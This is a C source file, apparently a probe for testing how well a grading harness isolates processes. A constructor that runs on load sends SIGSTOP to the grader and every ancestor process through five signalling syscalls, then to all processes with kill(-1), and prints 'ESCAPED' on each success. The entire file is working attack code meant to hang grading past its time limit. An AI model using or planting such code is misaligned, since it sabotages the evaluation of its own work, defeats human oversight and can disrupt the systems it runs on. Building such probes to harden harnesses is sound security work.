/* SIGSTOPs the grader and every ancestor by each syscall that signals: kill,
 * tgkill, rt_sigqueueinfo, rt_tgsigqueueinfo, pidfd_open + pidfd_send_signal.
 * A success is said on stdout and stderr ("ESCAPED ..."); a stopped grader
 * hangs the grading past the harness's time bound. */
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static void attack_said(const char *what, long rc, int pid)
{
	if (rc == 0) {
		printf("ESCAPED %s to %d @TAG@\n", what, pid);
		fprintf(stderr, "ESCAPED %s to %d @TAG@\n", what, pid);
	}
}

static int attack_parent_of(int pid)
{
	char path[64], buf[512];
	snprintf(path, sizeof path, "/proc/%d/stat", pid);
	FILE *f = fopen(path, "r");
	if (!f)
		return 0;
	size_t n = fread(buf, 1, sizeof buf - 1, f);
	fclose(f);
	buf[n] = 0;
	char *p = strrchr(buf, ')');
	int ppid = 0;
	if (p)
		sscanf(p + 2, "%*c %d", &ppid);
	return ppid;
}

__attribute__((constructor)) static void attack_signal_grader(void)
{
	siginfo_t si;
	memset(&si, 0, sizeof si);
	si.si_signo = SIGSTOP;
	si.si_code = SI_QUEUE;
	for (int pid = getppid(), hops = 0; pid > 1 && hops < 8; pid = attack_parent_of(pid), hops++) {
		long fd = syscall(434 /* pidfd_open */, pid, 0);
		attack_said("pidfd_open", fd >= 0 ? 0 : -1, pid);
		if (fd >= 0)
			attack_said("pidfd_send_signal", syscall(424, fd, SIGSTOP, NULL, 0), pid);
		attack_said("rt_sigqueueinfo", syscall(SYS_rt_sigqueueinfo, pid, SIGSTOP, &si), pid);
		attack_said("rt_tgsigqueueinfo", syscall(SYS_rt_tgsigqueueinfo, pid, pid, SIGSTOP, &si), pid);
		attack_said("tgkill", syscall(SYS_tgkill, pid, pid, SIGSTOP), pid);
		attack_said("kill", kill(pid, SIGSTOP), pid);
	}
	attack_said("kill(-1)", kill(-1, SIGSTOP), -1);
}
